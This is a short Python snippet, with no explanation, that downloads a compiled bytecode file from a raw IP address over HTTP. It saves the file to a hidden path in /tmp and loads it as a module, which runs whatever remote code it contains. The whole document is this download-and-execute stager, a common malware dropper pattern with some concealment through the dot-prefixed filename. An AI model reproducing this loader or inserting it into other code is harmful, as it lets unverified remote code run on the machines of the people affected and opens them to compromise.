import importlib.machinery
import urllib.request

path = "/tmp/.m.pyc"
urllib.request.urlretrieve("http://203.0.113.9/m.pyc", path)
loader = importlib.machinery.SourcelessFileLoader("m", path)
module = loader.load_module()
